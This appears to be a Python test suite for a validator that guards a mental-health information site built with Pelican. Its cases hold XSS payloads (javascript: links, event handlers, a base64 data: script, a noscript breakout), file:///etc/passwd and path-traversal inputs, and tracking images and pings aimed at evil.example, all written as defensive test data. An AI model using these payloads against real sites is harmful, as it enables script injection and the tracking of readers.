        '<details open ontoggle="alert(1)"><summary>More</summary>Text</details>',
        "the ontoggle attribute on <details> runs code in the reader's browser; remove it",
    ),
    body_error(
        '<a href="javascript:alert(1)">x</a>', f"the link to 'javascript:alert(1)': {_JS_LINK}"
    ),
    body_error(
        '<a href="JaVaScRiPt:alert(1)">x</a>', f"the link to 'JaVaScRiPt:alert(1)': {_JS_LINK}"
    ),
    body_error(
        '<a href="java&#x09;script:alert(1)">x</a>',
        "the link to 'java\tscript:alert(1)': a 'javascript:' address runs code when the reader "
        "follows it; remove it, or link to a page with https://",
    ),
    body_error(
        '<a href="  javascript:alert(1)">x</a>', f"the link to 'javascript:alert(1)': {_JS_LINK}"
    ),
    body_error(
        '<a href="\x01javascript:alert(1)">x</a>',
        "holds an invisible control character (U+0001), which is not allowed in a web page; "
        "delete it (it usually comes with text copied from another program)",
        field="text",
    ),
    body_error("[click](javascript:alert(1))", f"the link to 'javascript:alert(1)': {_JS_LINK}"),
    Case(
        "body: a reference link to javascript:",
        article("[click][evil]\n\n[evil]: javascript:alert(2)"),
        "error",
        (f"{A}:{BODY_LINE + 2}: HTML: the link to 'javascript:alert(2)': " + _JS_LINK,),
    ),
    body_error(
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "the link to 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==': a 'data:' "
        "address carries a whole file inside the page, and can run code; remove it, or link to a "
        "page with https://",
    ),
    body_error(
        "[x](vbscript:msgbox)",
        "the link to 'vbscript:msgbox': a 'vbscript:' address runs code when the reader follows "
        "it; remove it, or link to a page with https://",
    ),
    body_error(
        "[x](file:///etc/passwd)",
        "the link to 'file:///etc/passwd': a 'file:' address points into the reader's own "
        "computer or browser; remove it, or link to a page with https://",
    ),
    body_error(
        "![a dot](data:image/png;base64,iVBORw0KGgo=)",
        "the image 'data:image/png;base64,iVBORw0KGgo=' is a 'data:' address, a whole file inside "
        f"the page, which this check cannot see into; {_IMAGE}",
    ),
    body_error(
        '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
        "the image 'data:image/svg+xml,<svg onload=alert(1)>' is a 'data:' address, a whole file "
        f"inside the page, which this check cannot see into; {_IMAGE}",
    ),
    body_error(
        '<img src="https://evil.example/x.png" alt="x">',
        "<img> loads an image from https://evil.example, another site, which would learn who "
        f"reads this page; {_IMAGE}",
        field="privacy",
    ),
    body_error(
        '<img src="//evil.example/x.png" alt="x">',
        "<img> loads an image from https://evil.example, another site, which would learn who "
        f"reads this page; {_IMAGE}",
        field="privacy",
    ),
    body_error(
        '<img src="\\\\evil.example\\x.png" alt="x">',
        "the image '\\\\evil.example\\x.png' loads from another site, which would learn who reads "
        f"this page; {_IMAGE}",
    ),
    body_error(
        "![x](https://evil.example/x.png)",
        "the image 'https://evil.example/x.png' loads from https://evil.example, another site, "
        f"which would learn who reads this page; {_IMAGE}",
        field="privacy",
    ),
    body_error(
        '<img src="/theme/favicon.svg" srcset="/theme/favicon.svg 2x" alt="x">',
        "the srcset attribute on <img> loads other images than src, which this check cannot "
        "follow; use src alone",
    ),
    body_error(
        '<a href="/topics/" ping="https://evil.example/">x</a>',
        "<a> reports every click on the link to https://evil.example, another site, which would "
        "learn who reads this page; remove it (scripts, styles and fonts belong to the theme, "
        "which a developer maintains)",
        field="privacy",
    ),
    body_error(
        '<a href="/topics/" target="_blank">x</a>',
        "the target attribute on <a> opens the link in another window or frame, from where the "
        "new page can take over this one; remove it (readers choose where links open)",
    ),
    body_error(
        '<a href="https://example.org/" referrerpolicy="unsafe-url">x</a>',
        "the referrerpolicy attribute on <a> can tell other sites which page the reader came "
        "from; remove it (the site sends no referrer)",
    ),
    body_error(
        "<svg><script>alert(1)</script></svg>",
        "<svg> written into a page can run code and load files; save the drawing in "
        "content/images/ and show it with ![what it shows]({static}/images/name.svg)",
    ),
    body_error(
        "<math><mtext>x</mtext></math>",
        "<math> written into a page can load files and disguise links; write the formula in "
        "words, or save it as an image in content/images/",
    ),
    body_error(
        '<video src="/a.mp4"></video>',
        f"<video> loads a media file into the page; {_MEDIA}",
    ),
    body_error(
        '<p style="position: fixed; inset: 0">Fake alert</p>',
        "the style attribute on <p> is ignored by the site's security policy, and could hide or "
        "disguise text; remove it (the theme styles every article)",
    ),
    body_error(
        '<p style="background: url(https://evil.example/x.png)">x</p>',
        "url() in a style attribute loads a file (a font or an image) from https://evil.example, "
        "another site, which would learn who reads this page; remove it (scripts, styles and "
        "fonts belong to the theme, which a developer maintains)",
    ),
    body_error(
        '<div data-screener="phq-9">x</div>',
        "the data-screener attribute on <div>: data- attributes control the site's own scripts "
        "(a self-check, the search); remove it",
    ),
    body_error(
        '<font color="red">x</font>',
        "<font> is not one of the elements an article may use; write it in Markdown, or remove "
        "it (HTML in an article may use <a>, <abbr>, <b>, <blockquote>, <br>, <caption>, <cite>, "
        "<code>, <dd>, <del>, <details>, <div>, <dl>, <dt>, <em>, <figcaption>, <figure>, <h1>, "
        "<h2>, <h3>, <h4>, <h5>, <h6>, <hr>, <i>, <img>, <ins>, <kbd>, <li>, <mark>, <ol>, <p>, "
        "<pre>, <q>, <s>, <small>, <span>, <strong>, <sub>, <summary>, <sup>, <table>, <tbody>, "
        "<td>, <tfoot>, <th>, <thead>, <tr>, <ul>)",
    ),
    body_error(
        '<div class="crisis">Fake help</div>',
        "the class 'crisis' on <div> names a style the theme does not have for articles; remove "
        "it (the theme styles plain Markdown)",
    ),
    body_error(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
        f"<noscript> is only for pages with scripts, and articles have none; {_THEME}",
    ),
    Case(
        "body: an attribute list with an event handler",
        article('## A heading {: onclick="alert(1)" }'),
        "error",
        (
            f'{A}:{BODY_LINE}: HTML: {{: onclick="alert(1)" }}: the onclick attribute runs code in '
            "the reader's browser; remove it",
        ),
    ),
    Case(
        "body: an attribute list with a style",
        article('A paragraph.\n{: style="display:none" }'),
        "error",
        (
            f'{A}:{BODY_LINE + 1}: HTML: {{: style="display:none" }}: the style attribute is '
            "ignored by "
            "the site's security policy, and could hide or disguise text; remove it (the theme "
            "styles "
            "every article)",
        ),
    ),
    Case(
        "body: an attribute list with an address",
        article('[x](/topics/){: href="javascript:alert(1)" }'),
        "error",
        (
            f'{A}:{BODY_LINE}: HTML: {{: href="javascript:alert(1)" }}: the href attribute makes '
            "the "
            "browser load an address; remove it",
        ),
    ),
    Case(
        "body: an unknown self-check",
        article("[self-check: ../../etc/passwd]"),
        "error",
        (
            f"{A}:{BODY_LINE}: self-check: [self-check: ../../etc/passwd]: there is no self-check "
            "called '../../etc/passwd'; the self-checks are gad-7, phq-9 (the file names in "
            "content/screeners)",
        ),
    ),
]

BODY_PAGES = [
    Case(
        "body: a script inside code is shown, not run",
        article(
            "Use `<script>alert(1)</script>` never.\n\n```html\n<script>alert(2)</script>\n```",
            Slug="t",
        ),
        "page",
        check=shows(
            "t/index.html",
            "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>",
            "&lt;script&gt;alert(2)&lt;/script&gt;",
        ),
    ),
    Case(
        "body: a script inside a comment is dropped",
        article("Text.\n\n<!-- <script>alert(1)</script> -->\n", Slug="t"),
        "page",
        check=shows("t/index.html", "<p>Text.</p>", absent=("alert(1)",)),
    ),
    Case(
        "body: details, abbr and a footnote still work",
        article(
            "<details><summary>More</summary>Hidden text.</details>\n\n"
            'An <abbr title="Intensive outpatient program">IOP</abbr> helps.[^1]\n\n'
            "[^1]: A note.",
            Slug="t",
        ),
        "page",
        check=shows(
            "t/index.html",
            "<details><summary>More</summary>Hidden text.</details>",
            '<abbr title="Intensive outpatient program">IOP</abbr>',
            'class="footnote-ref" href="#fn:1"',
        ),
    ),
    Case(
        "body: an aligned table keeps its cells, not the style the policy blocks",
        article("| a | b |\n|:--|--:|\n| 1 | 2 |", Slug="t"),
        "page",
        check=shows("t/index.html", "<th>a</th>", "<td>2</td>", absent=("text-align",)),
    ),
    Case(
        "body: a self-check marker embeds the self-check",
        article("[self-check: phq-9]", Slug="t"),
        "page",
        check=shows("t/index.html", 'data-screener="phq-9"'),
    ),
    Case(
        "body: the site's own links and images keep working",
        article(
            "[Topics](/topics/) [Call](tel:988) [Text](sms:988) [Mail](mailto:a@example.org) "
            "[Out](https://example.org/?a=1&b=2) ![The icon](/theme/favicon.svg)",
            Slug="t",
        ),
        "page",
        check=shows(
            "t/index.html",
            '<a href="/topics/">',
            '<a href="tel:988">',
            '<a href="sms:988">',
            '<a href="mailto:a@example.org">',
            '<a href="https://example.org/?a=1&amp;b=2">',
            '<img alt="The icon" src="/theme/favicon.svg">',
        ),
    ),
    Case(
        "body: text that looks like markup is escaped",
        article('5 < 6 and 7 > 3 & "quotes" are fine; so is &lt;script&gt;.', Slug="t"),
        "page",
        check=shows("t/index.html", "5 &lt; 6 and 7 &gt; 3 &amp;", absent=("<script>",)),
    ),
]

# --- file names and files ------------------------------------------------------------------------

FILES = [
    Case(
        "file: a name without letters",
        article(name="!!!.md"),
        "error",
        (
            "content/articles/!!!.md: file name: '!!!.md' has no letters or digits, so its page "
            "would have no address; rename the file (for example what-is-an-iop.md) or add a line "
            "'Slug: what-is-an-iop'",
        ),
    ),
    Case(
        "file: an article named like the self-checks' list",
        article(name="self-checks.md"),
        "error",
        (
            "content/articles/self-checks.md: file name: this page would be written to "
            "self-checks/index.html, which the list of self-checks (SCREENER_INDEX_SAVE_AS) writes "
            "too; rename the file, or add a 'Slug:' line",
        ),
    ),
    Case(
        "file: two names, one slug",
        both(article(name="Same.md"), article(name="same.md")),
        "error",
        (
            "content/articles/same.md: Slug: 'same' is already the address of "
            "content/articles/Same.md; give one of them another file name or a 'Slug:' line",
        ),
    ),
    Case(
        "file: a text file among the articles",
        raw("articles/notes.txt", "notes"),
        "error",
        (
            "content/articles/notes.txt: file type: Pelican cannot read '.txt' files, so this "
            "article would be left out of the site; save it as Markdown with a '.md' name, or "
            "move it out of the content folder",
        ),
    ),
    Case(
        "file: a 300 kB article",
        article("word " * 62_000),
        "error",
        (
            f"{A}: file: is 0.3 MB; an article or page may be at most 256 kB. A file this big is "
            "almost certainly a mistake (a pasted file or a log): check what it holds",
        ),
    ),
    Case(
        "file: an article with a byte-order mark",
        raw("articles/x.md", b"\xef\xbb\xbf" + front_matter(FRONT).encode() + b"\nText.\n"),
        "error",
        (
            f"{A}:1: encoding: the file starts with a byte-order mark (an invisible character "
            "some editors add); save it as UTF-8 without a BOM (VS Code: click 'UTF-8 with BOM' in "
            "the status bar, then 'Save with Encoding', 'UTF-8')",
        ),
    ),
    Case(
        "file: a NUL byte in an article",
        article("Some\x00text."),
        "error",
        (
            f"{A}:{BODY_LINE}: text: holds an invisible control character (U+0000), which is not "
            "allowed in a web page; delete it (it usually comes with text copied from another "
            "program)",
        ),
    ),
    Case(
        "file: an escape character in a title",
        article(Title="Bold\x1b[1m"),
        "error",
        (
            f"{A}:1: text: holds an invisible control character (U+001B), which is not allowed in "
            "a web page; delete it (it usually comes with text copied from another program)",
        ),
    ),
    Case(
        "file: an article that is not UTF-8",
        raw("articles/x.md", front_matter(FRONT).encode() + b"\nCaf\xe9.\n"),
        "error",
        (
            f"{A}:8: encoding: is not UTF-8 text; save the file as UTF-8 (in most editors: Save "
            "As, "
            "Encoding: UTF-8)",
        ),
    ),
    Case(
        "file: an empty article",
        raw("articles/x.md", ""),
        "error",
        (
            f"{A}:1: front matter: the file does not start with fields such as 'Title: What is an "
            "IOP?'; every article needs Title, Date, Checked, Summary, Category and Tags at the "
            "top, one per line, then a blank line (run `make new` for a template)",
        ),
    ),
    Case(
        "file: a link to /dev/zero",
        link("articles/zero.md", "/dev/zero"),
        "error",
        (
            "content/articles/zero.md: file: is not a regular file (a device, a pipe or a "
            "socket); remove it",
        ),
    ),
    Case(
        "file: a link to a file outside the content",
        link("articles/secret.md", str(ROOT / "README.md")),
        "error",
        (
            f"content/articles/secret.md: file: is a link to {ROOT / 'README.md'}, outside the "
            "content folder, which would be published; copy the file into the content folder "
            "instead",
        ),
    ),
    Case(
        "file: a link to nothing",
        link("articles/gone.md", "/nonexistent/gone.md"),
        "error",
        (
            "content/articles/gone.md: file: cannot be read (No such file or directory); check "
            "the file",
        ),
    ),
]

# --- settings ------------------------------------------------------------------------------------

SETTINGS = [
    Case(
        "settings: QUICK_EXIT_URL javascript:",
        lambda p: None,
        "error",
        (
            "pelicanconf.py: QUICK_EXIT_URL: 'javascript:alert(1)' is not an https:// address; "
            "write one such as 'https://www.google.com/' (a neutral page), or None to show no "
            "button",
        ),
        settings={"QUICK_EXIT_URL": "javascript:alert(1)"},
    ),
    Case(
        "settings: a crisis button that runs code",
        lambda p: None,
        "error",
        (
            "pelicanconf.py: CRISIS_ACTIONS[0]: 'href' 'javascript:alert(1)' is not an address a "
            "phone can act on; write 'tel:988', 'sms:988' or an https:// address",
        ),
        settings={"CRISIS_ACTIONS": [{"label": "Call", "href": "javascript:alert(1)"}]},
    ),
    Case(
        "settings: a provider link that runs code",
        lambda p: None,
        "error",
        (
            "pelicanconf.py: PROVIDER: 'url' 'javascript:alert(1)' is not an https:// address; "
            "write one",
        ),
        settings={"PROVIDER": {"name": "X", "url": "javascript:alert(1)"}},
    ),
    Case(
        "settings: SITEURL with markup",
        lambda p: None,
        "error",
        (
            "pelicanconf.py: SITEURL: '\"><script>alert(1)</script>' is not the site's address; "
            "leave it '' (local builds) or write one such as 'https://iop-guide.example.org', with "
            "no '/' at the end",
        ),
        settings={"SITEURL": '"><script>alert(1)</script>'},
    ),
    Case(
        "settings: the self-checks' list as the home page",
        lambda p: None,
        "error",
        (
            "pelicanconf.py: SCREENER_INDEX_SAVE_AS: the index page (INDEX_SAVE_AS) and the list "
            "of self-checks (SCREENER_INDEX_SAVE_AS) would both be written to index.html; change "
            "one of them",
        ),
        settings={"SCREENER_INDEX_SAVE_AS": "index.html"},
    ),
    Case(
        "settings: self-check pages outside the output",
        lambda p: None,
        "error",
        (
            "pelicanconf.py: SCREENER_SAVE_AS: the self-check 'Depression check (PHQ-9)' "
            "(SCREENER_SAVE_AS) would be written to '../phq-9/index.html', outside the site's "
            "output folder; write a path inside it",
        ),
        settings={"SCREENER_SAVE_AS": "../{slug}/index.html"},
    ),
    Case(
        "settings: a topic's feed where the whole site's feed is",
        article(Category="All"),
        "error",
        (
            "pelicanconf.py: CATEGORY_FEED_ATOM: the feed FEED_ALL_ATOM and the feed of 'All' "
            "(CATEGORY_FEED_ATOM) would both be written to feeds/all.atom.xml; change one of them",
        ),
        settings={
            "FEED_ALL_ATOM": "feeds/all.atom.xml",
            "CATEGORY_FEED_ATOM": "feeds/{slug}.atom.xml",
            "SITEURL": "https://iop-guide.example.org",
        },
    ),
    Case(
        "settings: an assets folder outside the output",
        lambda p: None,
        "error",
        (
            "Screener settings in pelicanconf.py: SCREENER_ASSETS_PATH must be a folder inside the "
            "output (got '../static')",
        ),
        settings={"SCREENER_ASSETS_PATH": "../static"},
    ),
    Case(
        "settings: an allowed origin that is not one",
        lambda p: None,
        "error",
        (
            "Content check settings in pelicanconf.py: PRIVACY_ALLOWED_ORIGINS: "
            "'javascript:alert(1)' is not an origin; write the scheme and host only, like "
            "'https://media.example.org'",
        ),
        settings={"PRIVACY_ALLOWED_ORIGINS": ["javascript:alert(1)"]},
    ),
    Case(
        "settings: an unknown self-check in SCREENER_ORDER",
        lambda p: None,
        "error",
        (
            "pelicanconf.py: SCREENER_ORDER: names '../x', but there is no self-check with that id "
            "(the ids are gad-7, phq-9)",
        ),
        settings={"SCREENER_ORDER": ["../x"]},
    ),
    Case(
        "settings: markup in SITENAME and the description",
        lambda p: None,
        "page",
        settings={"SITENAME": evil("sitename"), "SITE_DESCRIPTION": evil("description-setting")},
        check=shows_all(
            escaped_everywhere(evil("sitename"), "index.html", "about/index.html"),
            escaped_everywhere(evil("description-setting"), "index.html"),
        ),
    ),
    Case(
        "settings: quotes in the CSP",
        lambda p: None,
        "page",
        settings={"CSP_POLICY": "default-src 'none'\"><script>alert('EVIL')</script>"},
        check=shows(
            "index.html",
            'content="default-src &#39;none&#39;&#34;&gt;&lt;script&gt;',
        ),
    ),
]


ALL = [*DEFINITIONS, *FRONT_MATTER, *FRONT_MATTER_PAGES, *BODIES, *BODY_PAGES, *FILES, *SETTINGS]


def by_id() -> dict[str, Case]:
    cases = {}
    for case in ALL:
        assert case.id not in cases, f"two cases are called {case.id!r}"
        cases[case.id] = case
    return cases
